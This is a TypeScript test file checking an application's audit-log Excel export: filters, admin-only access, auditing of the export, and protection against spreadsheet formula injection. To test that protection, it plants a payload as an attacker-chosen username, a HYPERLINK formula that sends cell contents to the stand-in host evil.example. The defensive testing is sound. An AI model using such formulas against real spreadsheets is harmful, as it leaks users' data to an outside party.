import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyAuditChain, writeAudit } from '../../server/audit/auditLog';
import type { AuditFilters } from '../../shared/api/audit';
import { failure, startTestServer, type TestServer } from './support/testServer';

// The audit log exported as a real .xlsx with the list's filters, formula-safe cells, and the export audited.
describe('audit export', () => {
  let s: TestServer;
  let admin: string;
  const injected = '=HYPERLINK("https://evil.example/?x="&A1,"klik")';

  /** The workbook's bytes, through the app's own client. */
  const download = (query: AuditFilters = {}, token = admin) => s.client(token).call('audit.export', { query });

  async function readSheet(bytes: ArrayBuffer) {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes);
    const ws = wb.worksheets[0];
    if (!ws) throw new Error('no worksheet');
    const rows: unknown[][] = [];
    ws.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    return { ws, rows };
  }

  beforeAll(async () => {
    s = await startTestServer();
    await s.addStaff('anna', 'Geheim!2026', ['admin'], 'Anna Bakker');
    await s.addStaff('karin', 'Geheim!2026', ['kcc', 'kcc-admin']);
    await s.addStaff('pieter', 'Geheim!2026', ['kcc']);
    admin = await s.signIn('anna', 'Geheim!2026', '10.1.1.1');
    const workstation = s.client(admin, '10.1.1.1');
    await workstation.call('ipRanges.create', { body: { cidr: '10.0.0.0/8', admin: true, kcc: true, description: '+31 kantoor' } });
    await workstation.call('ipRanges.create', { body: { cidr: '192.168.0.0/16', admin: false, kcc: true } });
    // An attacker-chosen name (e.g. a username typed at sign-in) that a spreadsheet would run as a formula.
    await writeAudit(s.store.db, {
      at: s.clock.now().toISOString(),
      actorId: null,
      actor: injected,
      roles: [],
      action: 'staff.sign_in_failed',
      sourceAddress: '10.9.9.9',
      details: { note: '@SUM(1)' },
    });
  });
  afterAll(async () => s.close());

  it('returns a valid workbook with a header row and exactly the filtered entries, newest first', async () => {
    // Raw fetch: the response headers are what this test reads, and the client hands back only the bytes.
    const res = await fetch(`${s.url}/api/v1/audit/export?action=ip_range.`, { headers: { authorization: `Bearer ${admin}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="auditlogboek-\d{4}-\d{2}-\d{2}\.xlsx"/);
    expect([res.headers.get('x-audit-total'), res.headers.get('x-audit-exported')]).toEqual(['2', '2']);
    const { rows } = await readSheet(await res.arrayBuffer());
    expect(rows[0]).toEqual(['Nr.', 'Tijdstip (Amsterdam)', 'Medewerker', 'Rollen', 'Actie', 'Doel', 'Klantnummer', 'IP-adres', 'Meekijksessie', 'Details']);
    const body = rows.slice(1);
    expect(body).toHaveLength(2);
    expect(body.map((r) => r[4])).toEqual(['ip_range.create', 'ip_range.create']);
    expect(body.map((r) => r[2])).toEqual(['anna', 'anna']);
    expect(body.map((r) => r[7])).toEqual(['10.1.1.1', '10.1.1.1']);
    expect(Number(body[0]?.[0])).toBeGreaterThan(Number(body[1]?.[0]));
    expect(body[0]?.[1]).toBeInstanceOf(Date);
    expect(JSON.parse(String(body[0]?.[9]))).toMatchObject({ cidr: '192.168.0.0/16', admin: false, kcc: true });
  });

  it('filters by actor like the list does', async () => {
    // The list first: the export's own entry is written after its rows were read.
    const list = await s.client(admin).call('audit.list', { query: { actor: 'anna', pageSize: 100 } });
    const { rows } = await readSheet(await download({ actor: 'anna' }));
    expect(rows.length - 1).toBe(list.total);
    expect(rows.slice(1).every((r) => r[2] === 'anna')).toBe(true);
  });

  it('makes an injected formula harmless: text with a leading apostrophe, no formula cell', async () => {
    const { ws, rows } = await readSheet(await download({ action: 'staff.sign_in_failed' }));
    expect(rows).toHaveLength(2);
    const actorCell = ws.getRow(2).getCell(3);
    expect(actorCell.type).toBe(ExcelJS.ValueType.String);
    expect(actorCell.value).toBe(`'${injected}`);
    expect(actorCell.formula).toBeUndefined();
    // The details JSON starts with "{", so it stays as it is.
    expect(ws.getRow(2).getCell(10).value).toBe('{"note":"@SUM(1)"}');
  });

  it('records the export itself (action audit.export, with the filters) and keeps the chain intact', async () => {
    await download({ customerNumber: 'hm-000001' });
    const { items } = await s.client(admin).call('audit.list', { query: { action: 'audit.export' } });
    expect(items[0]?.actor).toBe('anna');
    expect(items[0]?.details?.filters).toMatchObject({ customerNumber: 'hm-000001' });
    expect(items[0]?.details?.rows).toBe(0);
    expect((await verifyAuditChain(s.store)).ok).toBe(true);
  });

  it('is for admin and kcc-admin only, and checks the filters', async () => {
    const kccAdmin = await s.signIn('karin', 'Geheim!2026');
    expect((await download({}, kccAdmin)).byteLength).toBeGreaterThan(0);
    const kcc = await s.signIn('pieter', 'Geheim!2026');
    const refused = await failure(download({}, kcc));
    expect([refused.status, refused.code]).toEqual([403, 'forbidden']);
    const badFilter = await failure(download({ from: 'gisteren' }));
    expect([badFilter.status, badFilter.code]).toEqual([400, 'validation']);
  });
});
